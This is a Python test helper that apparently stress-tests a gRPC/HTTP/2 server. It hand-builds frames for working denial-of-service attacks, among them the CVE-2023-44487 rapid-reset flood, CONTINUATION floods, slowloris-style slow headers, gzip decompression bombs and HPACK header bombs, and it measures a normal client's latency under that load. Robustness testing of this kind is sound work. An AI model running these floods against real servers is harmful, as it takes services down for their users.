# SPDX-License-Identifier: Apache-2.0
"""Clients that no library would make, for test_hostile_clients.py: HTTP/2 frame by frame, in processes of other users.

Attacks.NAME(address, seconds) misbehaves for so long; call_for() is what a client beside them sees."""
import collections
import gzip
import multiprocessing
import os
import resource
import selectors
import socket
import struct
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
INITIAL_WINDOW_SIZE = 4
CANCEL = 8
FRAME_MAX = 16384
CALLS_MAX = 100
HEALTH = b"/grpc.health.v1.Health/Check"
MONITOR = b"/tensorflow.ProfilerService/Monitor"
PROFILE = b"/tensorflow.ProfilerService/Profile"
REFLECTION = b"/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
ANSWER_S = 5
FILES_MAX = 4096


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, bits, first=0):
    """HPACK's number with a prefix of so many bits."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([first | value])
    out, value = [first | limit], value - limit
    while value >= 128:
        out.append(value % 128 | 128)
        value //= 128
    return bytes([*out, value])


def literal(name, value, first=0):
    """A field that is not put into the table; first=0x40: that is."""
    return bytes([first]) + integer(len(name), 7) + name + integer(len(value), 7) + value


def fields(path, *more):
    return b"".join(literal(*f) for f in ((b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"a"),
                                          (b"te", b"trailers"), (b"content-type", b"application/grpc"), *more))


def prefixed(message, compressed=0, size=None):
    return struct.pack(">BI", compressed, len(message) if size is None else size) + message


def call(stream, path, message=b"", flags=END_STREAM, more=(), compressed=0):
    return frame(HEADERS, END_HEADERS, stream, fields(path, *more)) + frame(DATA, flags, stream, prefixed(message, compressed))


def settings(*values):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *v) for v in values))


OPENING = PREFACE + settings()


class Connection:
    """One of a flood: what it still has to write, its next stream, and what the server lets it send."""

    def __init__(self, address, opening):
        self.socket = socket.socket()
        self.socket.setblocking(False)
        self.socket.connect_ex(address)
        self.left, self.stream, self.begun, self.data = memoryview(opening), 1, False, b""
        self.window, self.windows = 65535, collections.Counter()

    def streams(self, count):
        """The numbers of the next ones."""
        first, self.stream = self.stream, self.stream + 2 * count
        return range(first, self.stream, 2)

    def parse(self, data):
        """Notes the windows that the server grants."""
        self.data += data
        while len(self.data) >= 9 and len(self.data) >= 9 + (size := int.from_bytes(self.data[:3], "big")):
            kind, stream = self.data[3], int.from_bytes(self.data[5:9], "big")
            if kind == WINDOW_UPDATE:
                more = int.from_bytes(self.data[9:13], "big")
                if stream:
                    self.windows[stream] += more
                else:
                    self.window += more
            self.data = self.data[9 + size:]


class Flood:
    """So many connections that write what chunk(connection) returns, as fast as the server takes it; ended ones are opened again."""

    def __init__(self, address, seconds, count, chunk, opening=OPENING, reads=True, tracks=False):
        self.address, self.chunk, self.opening, self.reads, self.tracks = address, chunk, opening, reads, tracks
        self.selector = selectors.DefaultSelector()
        self.ended = self.written = 0
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for _ in range(min(16, count - len(self.selector.get_map()))):
                connection = Connection(address, opening)
                self.selector.register(connection.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, connection)
            wrote = False
            for key, events in self.selector.select(0.02):
                try:
                    wrote |= self.visit(key.data, events)
                except OSError:
                    self.selector.unregister(key.data.socket)
                    key.data.socket.close()
                    self.ended += 1
            if not wrote:
                time.sleep(0.002)
        for key in list(self.selector.get_map().values()):
            key.data.socket.close()

    def visit(self, connection, events):
        if events & selectors.EVENT_READ and self.reads:
            data = connection.socket.recv(1 << 16)
            if not data:
                raise ConnectionResetError
            if self.tracks:
                connection.parse(data)
        if not events & selectors.EVENT_WRITE:
            return False
        if not connection.left:
            connection.left = memoryview(self.chunk(connection))
        if not connection.left:
            return False
        n = connection.socket.send(connection.left[:1 << 18])
        connection.left = connection.left[n:]
        self.written += n
        return True


class Attacks:
    """Each for so many seconds; what they return is printed."""

    @staticmethod
    def flood(*arguments, **options):
        done = Flood(*arguments, **options)
        return f"{done.written / 1e6:.1f} MB written, {done.ended} connections ended"

    @staticmethod
    def slow_headers(address, seconds):
        sockets, ended = [], 0
        for i in range(120):
            s = socket.create_connection(address)
            s.sendall(OPENING[:i % 40] if i % 4 == 3 else OPENING + frame(HEADERS, 0, 1, fields(HEALTH))[:-50])
            sockets.append(s)
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for s in list(sockets):
                try:
                    s.sendall(b"x")
                except OSError:
                    sockets.remove(s)
                    ended += 1
            time.sleep(0.1)
        return f"{len(sockets)} connections open, {ended} ended"

    @staticmethod
    def idle_connections(address, seconds):
        end, sockets, ended = time.monotonic() + seconds, [], 0
        for _ in range(1000):
            s = socket.socket()
            s.setblocking(False)
            s.connect_ex(address)
            sockets.append(s)
        for s in sockets[::2]:
            try:
                s.send(OPENING)
            except OSError:
                pass
        time.sleep(max(0, end - time.monotonic()))
        for s in sockets:
            try:
                while s.recv(1 << 16):
                    pass
                ended += 1
            except BlockingIOError:
                pass
            except OSError:
                ended += 1
            s.close()
        return f"{len(sockets)} connections made, {ended} ended"

    @classmethod
    def rapid_resets(cls, address, seconds):
        """CVE-2023-44487, with calls that begin captures of this user's process."""
        request = b"\x08\xc8\x01"
        return cls.flood(address, seconds, 8, lambda c: b"".join(
            call(stream, PROFILE, request) + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)) for stream in c.streams(50)))

    @classmethod
    def continuations(cls, address, seconds):
        """A block of headers without end."""
        def chunk(connection):
            stream, = connection.streams(1)
            return frame(HEADERS, 0, stream, fields(HEALTH)) + frame(CONTINUATION, 0, stream, literal(b"x", b"y")) * 5000
        return cls.flood(address, seconds, 8, chunk)

    @classmethod
    def frames_that_are_answered(cls, address, seconds):
        pieces = frame(SETTINGS, 0, 0) * 4000, frame(PING, 0, 0, b"hostiles") * 4000, (frame(SETTINGS, 0, 0) + frame(PING, 0, 0, b"hostiles")) * 20
        return cls.flood(address, seconds, 24, lambda c: pieces[c.socket.fileno() % 3])

    @classmethod
    def frames_without_meaning(cls, address, seconds):
        pieces = frame(PRIORITY, 0, 1, b"\0\0\0\0\1") * 8000, frame(0xfa, 0xff, 9, b"x") * 10000, frame(SETTINGS, ACK, 0) * 5000
        return cls.flood(address, seconds, 24, lambda c: pieces[c.socket.fileno() % 3])

    @classmethod
    def calls(cls, address, seconds):
        """Nothing wrong with them, but as many as go through."""
        return cls.flood(address, seconds, 48, lambda c: b"".join(call(stream, MONITOR) for stream in c.streams(CALLS_MAX)) +
                         frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 20)))

    @classmethod
    def reflection(cls, address, seconds):
        """Many small questions in one stream."""
        def chunk(connection):
            stream, = connection.streams(1)
            question = prefixed(b"\x1a\x01x") * 1500
            return frame(HEADERS, END_HEADERS, stream, fields(REFLECTION)) + frame(DATA, END_STREAM, stream, question) + \
                frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 20))
        return cls.flood(address, seconds, 8, chunk)

    @classmethod
    def prefixes(cls, address, seconds):
        """Messages of 2 GiB, as they claim."""
        body = prefixed(b"a" * 1000, size=0x7fffffff)
        return cls.flood(address, seconds, 16, lambda c: b"".join(
            frame(HEADERS, END_HEADERS, stream, fields(MONITOR)) + frame(DATA, 0, stream, body) for stream in c.streams(CALLS_MAX // 2)))

    @classmethod
    def incomplete_requests(cls, address, seconds):
        """Each without its last byte: the server keeps them."""
        size = 65530

        def chunk(connection):
            out = b""
            if not connection.begun:
                connection.begun = connection.streams(CALLS_MAX)
                connection.windows.update(dict.fromkeys(connection.begun, size))
                for stream in connection.begun:
                    out += frame(HEADERS, END_HEADERS, stream, fields(MONITOR)) + frame(DATA, 0, stream, prefixed(b"", size=size))
                    connection.windows[stream] -= 5
                    connection.window -= 5
            for stream in connection.begun:
                n = min(connection.windows[stream] - 20, connection.window, FRAME_MAX)
                if n > 0 and len(out) < 1 << 17:
                    out += frame(DATA, 0, stream, b"a" * n)
                    connection.windows[stream] -= n
                    connection.window -= n
            return out
        return cls.flood(address, seconds, 16, chunk, tracks=True)

    @classmethod
    def gzip_bombs(cls, address, seconds):
        """Of zeros, and of fields that no message has: each of those becomes an object when it is unpacked."""
        bombs = [gzip.compress(data) for data in (bytes(4 << 20), bytes(64 << 20), b"\x78\0" * (2 << 20), b"\x78\0" * (32 << 10))]
        bombs = [bomb for bomb in bombs if len(bomb) < FRAME_MAX - 5]
        return cls.flood(address, seconds, 4, lambda c: b"".join(
            call(stream, MONITOR, bombs[stream // 2 % len(bombs)], more=((b"grpc-encoding", b"gzip"),), compressed=1) for stream in c.streams(12)))

    @classmethod
    def header_bombs(cls, address, seconds):
        """A few bytes that refer to a long field again and again, in headers and in trailers."""
        long = literal(b"a", b"b" * 3900, 0x40)

        def chunk(connection):
            first, second = connection.streams(2)
            refer = b"\xbe" * (FRAME_MAX - len(fields(HEALTH)) - len(long))
            trailers = frame(HEADERS, END_HEADERS, second, fields(HEALTH)) + frame(DATA, 0, second, prefixed(b""))
            return frame(HEADERS, END_STREAM, first, fields(HEALTH) + long + refer) + frame(CONTINUATION, 0, first, b"\xbe" * FRAME_MAX) * 6 + \
                frame(CONTINUATION, END_HEADERS, first) + trailers + frame(HEADERS, END_STREAM | END_HEADERS, second, refer)
        return cls.flood(address, seconds, 4, chunk)

    @classmethod
    def unread_answers(cls, address, seconds):
        """Windows of 0: every answer waits in the server."""
        opening = PREFACE + settings((INITIAL_WINDOW_SIZE, 0))

        def chunk(connection):
            if connection.begun:
                return b""
            connection.begun, out = True, b""
            for stream in connection.streams(CALLS_MAX):
                if stream % 4 == 1:
                    out += call(stream, MONITOR)
                    continue
                out += frame(HEADERS, END_HEADERS, stream, fields(REFLECTION))
                out += frame(DATA, 0, stream, prefixed(b"\x1a\x0dcontrol.proto") * 60)
            return out
        return cls.flood(address, seconds, 8, chunk, opening=opening)

    @staticmethod
    def connects(address, seconds):
        """Connections that end at once."""
        end, n = time.monotonic() + seconds, 0
        while time.monotonic() < end:
            batch = []
            for _ in range(20):
                s = socket.socket()
                s.setblocking(False)
                s.connect_ex(address)
                batch.append(s)
            n += len(batch)
            time.sleep(0.002)
            for s in batch:
                s.close()
        return f"{n} connections"


class Client:
    """A well-behaved one, with no more than it needs."""

    def __init__(self, address):
        self.socket = socket.create_connection(address, timeout=ANSWER_S)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.sendall(OPENING + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
        self.stream, self.data = -1, b""

    def read(self, size):
        while len(self.data) < size:
            more = self.socket.recv(1 << 16)
            if not more:
                raise ConnectionResetError
            self.data += more
        taken, self.data = self.data[:size], self.data[size:]
        return taken

    def call(self, path):
        """Whether it was answered with a message."""
        self.stream += 2
        self.socket.sendall(call(self.stream, path))
        answered = False
        while True:
            head = self.read(9)
            payload = self.read(int.from_bytes(head[:3], "big"))
            kind, flags, stream = head[3], head[4], int.from_bytes(head[5:], "big")
            if kind == SETTINGS and not flags & ACK:
                self.socket.sendall(frame(SETTINGS, ACK, 0))
            elif kind == PING and not flags & ACK:
                self.socket.sendall(frame(PING, ACK, 0, payload))
            elif kind == GOAWAY:
                raise ConnectionResetError
            elif stream == self.stream:
                answered |= kind == DATA and len(payload) > 0
                if kind == RST_STREAM or kind <= HEADERS and flags & END_STREAM:
                    return answered

    def close(self):
        self.socket.close()


def call_for(address, seconds):
    """Calls for so long, each tenth on a connection of its own: (their times in s, how many failed)."""
    times, failed, n = [], [], 0
    client, end = None, time.monotonic() + seconds
    while (begun := time.monotonic()) < end:
        n += 1
        one = None
        try:
            if n % 10 == 0:
                one = Client(address)
            elif not client:
                client = Client(address)
            if not (one or client).call(HEALTH if n % 2 else MONITOR):
                failed.append("no message")
        except OSError as error:
            failed.append(f"{type(error).__name__} {error}")
            client = client if one else None
        times.append(time.monotonic() - begun)
        if one:
            one.close()
        time.sleep(0.003)
    return times, failed


def run_first(tid):
    """The thread gets a CPU at once, whatever else the machine has to do: what is measured is then what it does itself."""
    os.sched_setscheduler(tid, os.SCHED_RR, os.sched_param(1))


def run_as(user, first, function, *arguments):
    """Calls function in a process of another user, which gets a CPU first or last; returns a function that waits for its result."""
    context = multiprocessing.get_context("fork")
    receiver, sender = context.Pipe(False)

    def run():
        resource.setrlimit(resource.RLIMIT_NOFILE, (FILES_MAX, FILES_MAX))
        if first:
            run_first(0)
        else:
            os.nice(10)
        os.setgroups([])
        os.setgid(user)
        os.setuid(user)
        try:
            sender.send(function(*arguments))
        except Exception as error:  # whatever it is, the test shows it
            sender.send(error)

    process = context.Process(target=run, daemon=True)
    process.start()

    def result():
        found = receiver.recv()
        process.join()
        if isinstance(found, Exception):
            raise found
        return found
    return result
